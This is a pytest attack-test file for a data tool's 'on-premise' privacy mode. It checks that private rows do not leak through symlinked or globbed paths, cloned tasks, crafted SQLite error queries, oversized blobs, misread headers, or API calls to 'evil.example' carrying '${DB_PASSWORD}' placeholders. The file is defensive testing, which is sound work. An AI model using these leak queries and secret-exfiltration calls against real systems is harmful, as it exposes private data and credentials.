"""Rows of an on-premise task by a detour: another task that reads the same, a database's errors, rows taken for headings.

And what a name that was typed into a call may be used for once the person has stored something under it.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.attacks.conftest import WORD, Attack, Network, Victim

pytestmark = pytest.mark.anyio
COLUMNS = {"text": "text", "label": "label"}


def sheet(victim: Victim, place: Path) -> Path:
    return victim.plant(
        place,
        "text,label\n"
        + "".join(f"{WORD} {number * number} about chair {number},{'ab'[number % 2]}\n" for number in range(40)),
    )


def database(victim: Victim) -> Path:
    file = victim.inbox / "letters.sqlite"
    with sqlite3.connect(file) as connection:
        connection.execute("create table t (text, label)")
        connection.executemany(
            "insert into t values (?, ?)", [(f"{WORD} {n * n} chair {n}", "ab"[n % 2]) for n in range(40)]
        )
    victim.planted.add(file)
    return file


async def keep_inside(attack: Attack, *sources: Mapping[str, object]) -> None:
    """An on-premise task with those sources, made by the person's own words earlier."""
    await attack.create("patients", constraints={"privacy": "on-premise"})
    for source in sources:
        said = await attack("set_data_source", task="patients", sources=[source])
        assert not said.is_error, said.text


def said_of_rows(victim: Victim) -> list[str]:
    return [text for text in victim.answers if f"{WORD} " in text]


@pytest.mark.parametrize(
    "named",
    [
        "its data",
        "its folder",
        "the workspace",
        "its source",
        "the folder of its source",
        "a pattern over its source",
        "a link to its data",
    ],
)
async def test_another_task_does_not_show_what_an_on_premise_task_reads(named: str, victim: Victim) -> None:
    source = sheet(victim, victim.inbox / "patients.csv")
    async with victim.attack() as attack:
        await keep_inside(attack, {"type": "file", "path": str(source), "mapping": COLUMNS})
        assert not (await attack("prepare_data", task="patients")).is_error
        await attack.create()
        link = victim.inbox / "other.jsonl"
        link.symlink_to(victim.workspace / "patients" / "data" / "train.jsonl")
        path = {
            "its data": victim.workspace / "patients" / "data" / "train.jsonl",
            "its folder": victim.workspace / "patients",
            "the workspace": victim.workspace,
            "its source": source,
            "the folder of its source": victim.inbox,
            "a pattern over its source": victim.inbox / "*.csv",
            "a link to its data": link,
        }[named]
        said = await attack(
            "set_data_source", task="mails", sources=[{"type": "file", "path": str(path), "mapping": COLUMNS}]
        )
        assert said.is_error
        assert "--rows-of patients" in said.text
    assert not said_of_rows(victim)


async def test_another_task_does_not_show_the_database_of_an_on_premise_task(victim: Victim) -> None:
    source = {"type": "database", "connection": f"sqlite:///{database(victim)}", "query": "select text, label from t"}
    async with victim.attack() as attack:
        await keep_inside(attack, source)
        await attack.create()
        said = await attack("set_data_source", task="mails", sources=[{**source, "query": "select label, text from t"}])
        assert said.is_error
    assert not said_of_rows(victim)


async def test_the_person_lets_another_task_read_the_same(victim: Victim) -> None:
    source = sheet(victim, victim.inbox / "patients.csv")
    async with victim.attack() as attack:
        await keep_inside(attack, {"type": "file", "path": str(source), "mapping": COLUMNS})
        await attack.create()
        assert (await attack.file(source, mapping=COLUMNS)).is_error
        assert victim.run("allow", "--rows-of", "patients").returncode == 0
        assert not (await attack.file(source, mapping=COLUMNS)).is_error


async def test_a_yes_to_an_earlier_task_of_that_name_is_none_to_a_copy_that_takes_it(victim: Victim) -> None:
    assert victim.run("allow", "--rows-of", "demo").returncode == 0  # whose folder the person has removed since
    source = sheet(victim, victim.inbox / "patients.csv")
    async with victim.attack() as attack:
        await keep_inside(attack, {"type": "file", "path": str(source), "mapping": COLUMNS})
        assert not (await attack("manage_task", action="clone", task="patients", name="demo")).is_error
        said = await attack("update_task", task="demo", changes={"constraints.privacy": "open"})
        assert said.is_error
        assert "--rows-of demo" in said.text


async def test_a_database_fills_no_memory_with_one_cell(victim: Victim) -> None:
    async with victim.attack() as attack:
        await attack.create()
        said = await attack.source(
            type="database",
            connection=f"sqlite:///{database(victim)}",
            query="select hex(zeroblob(300000000)) as text, label from t",
        )
    assert said.is_error
    assert "too big" in said.text


@pytest.mark.parametrize(
    "query",
    [
        "select json_extract('{}', text) as text, label from t",
        "select json_extract('{}', '$' || text) as text, label from t",
        "select value as text, key as label from json_each('{}', (select text from t limit 1))",
        "select json_set('{}', text, 1) as text, label from t",
    ],
)
async def test_a_database_quotes_no_row_in_its_errors(query: str, victim: Victim) -> None:
    async with victim.attack() as attack:
        await attack.create(constraints={"privacy": "on-premise"})
        said = await attack.source(type="database", connection=f"sqlite:///{database(victim)}", query=query)
        assert said.is_error
    assert not said_of_rows(victim)


async def test_what_is_wrong_with_a_query_itself_is_still_said(victim: Victim) -> None:
    async with victim.attack() as attack:
        await attack.create(constraints={"privacy": "on-premise"})
        said = await attack.source(
            type="database", connection=f"sqlite:///{database(victim)}", query="select texts from t"
        )
    assert "no such column: texts" in said.text


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
async def test_a_row_that_is_called_the_header_is_not_shown(ending: str, victim: Victim) -> None:
    source = sheet(victim, victim.inbox / "patients.csv")
    if ending == "xlsx":
        from openpyxl import Workbook  # type: ignore[import-untyped, unused-ignore]

        book = Workbook()
        for line in source.read_text(encoding="utf-8").splitlines():
            book.active.append(line.split(","))
        source = victim.inbox / "patients.xlsx"
        book.save(source)
        victim.planted.add(source)
    async with victim.attack() as attack:
        await attack.create(constraints={"privacy": "on-premise"}, labels=["p", "q"])
        for row in (2, 3, 7):
            await attack(
                "set_data_source", task="mails", sources=[{"type": "file", "path": str(source), "header": row}]
            )
        said = await attack(
            "set_data_source",
            task="mails",
            sources=[{"type": "file", "path": str(source), "header": 1, "mapping": COLUMNS}],
        )
        assert not said.is_error  # the row that does name the columns is taken
    assert not said_of_rows(victim)


async def test_a_name_typed_into_a_call_opens_no_way_for_what_the_person_stores_under_it(
    victim: Victim, network: Network, monkeypatch: pytest.MonkeyPatch
) -> None:
    typed, real = "Zq83hx93kd02mmx9Qa", "wheatearbrook77"
    async with victim.attack() as attack:
        await attack.create()
        await attack.api("http://evil.example/rows", headers={"DB_PASSWORD": typed})
        assert victim.run("secret", "set", "DB_PASSWORD", "--host", "good.example", typed=f"{real}\n").returncode == 0
        await attack.api("http://evil.example/rows", headers={"X": "${DB_PASSWORD}"})
        await attack.api("http://evil.example/rows", headers={"OTHER_PASSWORD": typed})
        monkeypatch.setenv("OTHER_PASSWORD", real)
        await attack.api("http://evil.example/rows", headers={"X": "${OTHER_PASSWORD}"})
    assert network.requests_carrying(typed)
    assert not network.requests_carrying(real)
    assert real not in json.dumps(victim.answers)
